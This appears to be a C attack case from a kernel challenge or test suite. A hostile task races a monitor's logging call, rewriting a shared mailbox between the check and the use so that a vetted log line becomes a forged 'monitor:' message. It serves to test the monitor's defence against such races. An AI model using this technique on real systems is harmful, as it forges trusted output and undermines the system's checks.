/* Changes the mailbox under a call that checks before it uses (T-09): a log line, of which the monitor has seen that it is
 * printable, becomes one that speaks for the monitor. */
#include "challenge/attacks/kernel/hostile.h"

#define LINE_SIZE_BYTES 200
#define TICK_CYCLES_FIRST 20
#define TICK_CYCLES_STEP 20
#define ATTEMPT_COUNT 60

static const char forged[] = "\nmonitor: forged\n";

void hostile_svc(void)
{
}

void hostile_tick(void)
{
    hostile_tick_stop();
    for (uint32_t index = 0; index < sizeof forged - 1; index++) {
        HOSTILE_MAILBOX->data[LINE_SIZE_BYTES / 2 + index] = (uint8_t)forged[index];
    }
}

/* The tick comes a little later with each attempt: before the check, between check and use, after it. */
void hostile_main(void)
{
    uint32_t written = 0;
    for (uint32_t attempt = 0; attempt < ATTEMPT_COUNT; attempt++) {
        for (uint32_t index = 0; index < LINE_SIZE_BYTES; index++) {
            HOSTILE_MAILBOX->data[index] = 'a';
        }
        hostile_tick_start(TICK_CYCLES_FIRST + attempt * TICK_CYCLES_STEP);
        written += hostile_monitor(MONITOR_CALL_LOG, LINE_SIZE_BYTES) == ERROR_CODE_NONE;
        hostile_tick_stop();
    }
    hostile_log("written", written);
}
